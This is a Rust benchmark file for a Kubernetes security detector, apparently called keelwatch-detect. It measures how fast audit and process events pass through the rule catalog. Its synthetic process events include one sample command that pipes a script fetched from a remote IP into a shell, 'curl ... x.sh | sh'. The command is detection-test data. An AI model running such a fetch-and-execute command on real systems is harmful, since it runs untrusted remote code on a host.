//! Detection throughput (criterion): events per second through the whole built-in catalog.
//!
//! Groups (run with `cargo bench -p keelwatch-detect --bench throughput`):
//! - `audit/decode+detect`: raw JSON lines → decode → redact → every catalog rule → alerts
//!   (`read_stream_views`, the detector's input path);
//! - `audit/owned-decode+detect`: the same through `read_stream`, which builds an owned
//!   `Event` per event (the API for callers that keep events);
//! - `audit/detect`: the same events already decoded (rule evaluation alone);
//! - `audit/reference-general-decode+unindexed`: JSON value tree first, then every rule
//!   without the index (the engine before the fast paths);
//! - `audit/floor-json-skip`: serde_json only checking the same lines (`IgnoredAny`): what
//!   any serde_json-based decoder pays before looking at a field;
//! - `audit/eventlist+detect`: the webhook backend's shape (EventLists of 50 events);
//! - `process/decode+detect`: node exec events.
//!
//! Time is the benchmark thread's CPU time (`CLOCK_THREAD_CPUTIME_ID`), not wall time, so the
//! figure is "events per second of one core" even on a loaded machine (caches and memory
//! bandwidth are still shared: a busy machine gives a lower bound). Set
//! `KEELWATCH_BENCH_WALL=1` to measure wall time instead.
//!
//! The audit mix imitates a real cluster's audit log: ~85% kubelet/controller/user
//! get/list/watch and lease/status updates at Metadata level, some creates with bodies
//! (controller pods, a CI deployment, config maps, services), and ~2% events that alert.

#[path = "../tests/common/mod.rs"]
mod common;

use std::time::Duration;

use common::*;
use criterion::measurement::{Measurement, ValueFormatter, WallTime};
use criterion::{BenchmarkGroup, Criterion, Throughput, criterion_group};
use keelwatch_detect::Detector;
use keelwatch_detect::decode::{Event, EventView, decode_body_views, read_stream, read_stream_views};
use keelwatch_detect::rules::{RuleSet, load_rules};
use serde_json::{Value, json};

/// CPU time of the calling thread.
struct ThreadCpu;

fn thread_cpu_ns() -> u64 {
    let mut ts = libc::timespec { tv_sec: 0, tv_nsec: 0 };
    // SAFETY: clock_gettime writes into the timespec we own.
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
    ts.tv_sec as u64 * 1_000_000_000 + ts.tv_nsec as u64
}

static WALL: WallTime = WallTime;

impl Measurement for ThreadCpu {
    type Intermediate = u64;
    type Value = u64;
    fn start(&self) -> u64 {
        thread_cpu_ns()
    }
    fn end(&self, start: u64) -> u64 {
        thread_cpu_ns().saturating_sub(start)
    }
    fn add(&self, a: &u64, b: &u64) -> u64 {
        a + b
    }
    fn zero(&self) -> u64 {
        0
    }
    fn to_f64(&self, v: &u64) -> f64 {
        *v as f64
    }
    fn formatter(&self) -> &dyn ValueFormatter {
        WALL.formatter()
    }
}

/// One cycle of the realistic audit mix (45 events).
fn audit_mix() -> Vec<Value> {
    let node = "aks-nodepool1-12345678-vmss000000";
    let kubelet = format!("system:node:{node}");
    let kcm = "system:kube-controller-manager";
    let mut v = Vec::new();
    for _ in 0..4 {
        v.push(
            audit("update", "leases", Some("kube-node-lease"), Some(node))
                .user(&kubelet)
                .ua("kubelet/v1.29.2")
                .metadata_level()
                .v(),
        );
    }
    for _ in 0..2 {
        v.push(
            audit("patch", "nodes", None, Some(node)).sub("status", "?timeout=10s").user(&kubelet).metadata_level().v(),
        );
        v.push(audit("get", "configmaps", Some("kube-system"), Some("kube-proxy")).user(&kubelet).metadata_level().v());
        v.push(
            audit("patch", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z"))
                .sub("status", "")
                .user(&kubelet)
                .metadata_level()
                .v(),
        );
    }
    for _ in 0..3 {
        v.push(
            audit("watch", "pods", None, None)
                .uri(&format!("/api/v1/pods?fieldSelector=spec.nodeName%3D{node}&watch=true"))
                .user(&kubelet)
                .metadata_level()
                .v(),
        );
        v.push(
            audit("update", "leases", Some("kube-system"), Some("kube-controller-manager"))
                .user(kcm)
                .metadata_level()
                .v(),
        );
    }
    v.push(audit("get", "secrets", Some("shop"), Some("web-tls")).user(&kubelet).metadata_level().v());
    v.push(audit("list", "services", None, None).user(&kubelet).metadata_level().v());
    for sa in ["endpointslice-controller", "replicaset-controller", "deployment-controller"] {
        v.push(
            audit("list", "pods", None, None)
                .user(&format!("system:serviceaccount:kube-system:{sa}"))
                .metadata_level()
                .v(),
        );
    }
    for _ in 0..2 {
        v.push(audit("watch", "endpoints", None, None).user("system:kube-proxy").metadata_level().v());
        v.push(audit("get", "deployments", Some("shop"), Some("web")).user(kcm).metadata_level().v());
    }
    for _ in 0..3 {
        v.push(
            audit("list", "pods", Some("shop"), None)
                .uri("/api/v1/namespaces/shop/pods?limit=500")
                .metadata_level()
                .v(),
        );
        v.push(audit("create", "events", Some("shop"), None).user(&kubelet).metadata_level().v());
    }
    for _ in 0..2 {
        v.push(audit("get", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z")).metadata_level().v());
    }
    v.push(audit("get", "pods", Some("shop"), Some("web-1")).sub("log", "?container=web").metadata_level().v());
    v.push(audit("watch", "configmaps", Some("shop"), None).metadata_level().v());
    v.push(audit("create", "tokenreviews", None, None).user("system:kube-apiserver").metadata_level().v());
    // Creates with bodies.
    v.push(
        audit("create", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z"))
            .user("system:serviceaccount:kube-system:replicaset-controller")
            .req(pod("web-7d9c5b7f4-x2x9z", "shop", &[("web", "contoso.azurecr.io/web:1.4.2", false)], json!({})))
            .v(),
    );
    v.push(
        audit("create", "deployments", Some("shop"), Some("web"))
            .user("system:serviceaccount:ci:deployer")
            .req(deployment("web", "shop", &[("web", "contoso.azurecr.io/web:1.4.2", false)], json!({})))
            .v(),
    );
    v.push(
        audit("create", "configmaps", Some("shop"), Some("web"))
            .req(json!({"kind": "ConfigMap", "metadata": {"name": "web"}, "data": {"LOG_LEVEL": "info"}}))
            .v(),
    );
    v.push(
        audit("create", "services", Some("shop"), Some("web"))
            .req(service("web", "shop", "ClusterIP", &[80], json!({}), json!({"app": "web"})))
            .v(),
    );
    // Alerting: the test alert.
    v.push(audit("list", "pods", Some("asc-alerttest-662jfi039n"), None).metadata_level().v());
    v
}

fn process_mix() -> Vec<Value> {
    [
        (vec!["nginx", "-g", "daemon off;"], "/usr/sbin/nginx"),
        (vec!["sh", "-c", "ls -la /app && cat /app/config.yaml"], "/bin/sh"),
        (vec!["curl", "-fsS", "https://api.contoso.com/health"], "/usr/bin/curl"),
        (vec!["python3", "-m", "gunicorn", "app:app"], "/usr/bin/python3"),
        (vec!["/usr/local/bin/kubelet", "--kubeconfig=/var/lib/kubelet/kubeconfig"], "/usr/local/bin/kubelet"),
        (vec!["cat", "/etc/os-release"], "/bin/cat"),
        (vec!["grep", "-r", "TODO", "."], "/bin/grep"),
        (vec!["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"], "/bin/sh"),
    ]
    .iter()
    .map(|(argv, exe)| process(argv, exe))
    .collect()
}

/// `n` JSON lines cycling through `base` with unique auditIDs.
fn lines(base: &[Value], n: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for i in 0..n {
        let mut e = base[i % base.len()].clone();
        if e.get("auditID").is_some() {
            e["auditID"] = json!(format!("bench-{i}"));
        }
        out.extend_from_slice(e.to_string().as_bytes());
        out.push(b'\n');
    }
    out
}

/// The same events as EventLists of `batch` items, one per line.
fn event_lists(base: &[Value], n: usize, batch: usize) -> Vec<u8> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < n {
        let items: Vec<Value> = (i..(i + batch).min(n))
            .map(|k| {
                let mut e = base[k % base.len()].clone();
                e["auditID"] = json!(format!("bench-{k}"));
                e
            })
            .collect();
        out.extend_from_slice(
            json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": items}).to_string().as_bytes(),
        );
        out.push(b'\n');
        i += batch;
    }
    out
}

fn decode_detect(rules: &std::sync::Arc<RuleSet>, input: &[u8]) -> usize {
    let mut det = Detector::new(rules.clone(), "bench");
    let mut alerts = 0;
    read_stream_views("bench", input, |e| alerts += det.process(&e).len(), |m| panic!("{m}")).unwrap();
    alerts
}

fn owned_decode_detect(rules: &std::sync::Arc<RuleSet>, input: &[u8]) -> usize {
    let mut det = Detector::new(rules.clone(), "bench");
    let mut alerts = 0;
    read_stream("bench", input, |e: Event| alerts += det.process(&e).len(), |m| panic!("{m}")).unwrap();
    alerts
}

fn run<M: Measurement>(group: &mut BenchmarkGroup<'_, M>, rules: &std::sync::Arc<RuleSet>) {
    const N: usize = 9_000;
    let audit = audit_mix();
    let audit_lines = lines(&audit, N);
    let alerts = decode_detect(rules, &audit_lines);
    eprintln!(
        "audit mix: {N} events, {} bytes/event on average, {alerts} alerts ({:.1}%)",
        audit_lines.len() / N,
        alerts as f64 * 100.0 / N as f64
    );
    group.throughput(Throughput::Elements(N as u64));
    assert_eq!(owned_decode_detect(rules, &audit_lines), alerts, "both decoders give the same alerts");
    group.bench_function("audit/decode+detect", |b| b.iter(|| decode_detect(rules, &audit_lines)));
    group.bench_function("audit/owned-decode+detect", |b| b.iter(|| owned_decode_detect(rules, &audit_lines)));

    let (decoded, bad, _) = decode_body_views("bench", &audit_lines);
    assert!(bad.is_empty() && decoded.len() == N);
    let decoded: Vec<EventView<'_>> = decoded;
    group.bench_function("audit/detect", |b| {
        b.iter(|| {
            let mut det = Detector::new(rules.clone(), "bench");
            decoded.iter().map(|e| det.process(e).len()).sum::<usize>()
        })
    });

    // Reference: the same events through the general decoder (JSON value tree first) and
    // every rule without the index, i.e. the engine before the fast paths.
    group.bench_function("audit/reference-general-decode+unindexed", |b| {
        b.iter(|| {
            let mut n = 0;
            for line in audit_lines.split(|c| *c == b'\n').filter(|l| !l.is_empty()) {
                let v: Value = serde_json::from_slice(line).unwrap();
                let (mut evs, mut problems, mut stats) = (Vec::new(), Vec::new(), Default::default());
                keelwatch_detect::decode::decode_value(v, &mut evs, &mut problems, &mut stats);
                for e in &evs {
                    if let Event::Audit(a) = e {
                        n += rules.eval_audit_unindexed(a, 0).len();
                    }
                }
            }
            n
        })
    });

    group.bench_function("audit/floor-json-skip", |b| {
        b.iter(|| {
            let mut n = 0;
            for line in audit_lines.split(|c| *c == b'\n').filter(|l| !l.is_empty()) {
                let _: serde::de::IgnoredAny = serde_json::from_slice(line).unwrap();
                n += 1;
            }
            n
        })
    });
    let lists = event_lists(&audit, N, 50);
    group.bench_function("audit/eventlist+detect", |b| b.iter(|| decode_detect(rules, &lists)));

    let procs = lines(&process_mix(), N);
    group.bench_function("process/decode+detect", |b| b.iter(|| decode_detect(rules, &procs)));
}

fn throughput(c: &mut Criterion<ThreadCpu>) {
    let rules = std::sync::Arc::new(load_rules(true, &[]).expect("catalog compiles"));
    let mut group = c.benchmark_group("catalog");
    group.measurement_time(Duration::from_secs(8)).sample_size(20);
    run(&mut group, &rules);
    group.finish();
}

fn throughput_wall(c: &mut Criterion) {
    let rules = std::sync::Arc::new(load_rules(true, &[]).expect("catalog compiles"));
    let mut group = c.benchmark_group("catalog-wall");
    group.measurement_time(Duration::from_secs(8)).sample_size(20);
    run(&mut group, &rules);
    group.finish();
}

fn cpu() -> Criterion<ThreadCpu> {
    Criterion::default().with_measurement(ThreadCpu)
}

criterion_group! {
    name = cpu_benches;
    config = cpu();
    targets = throughput
}
criterion_group!(wall_benches, throughput_wall);

fn main() {
    if std::env::var_os("KEELWATCH_BENCH_WALL").is_some() {
        wall_benches();
    } else {
        cpu_benches();
    }
    Criterion::default().configure_from_args().final_summary();
}
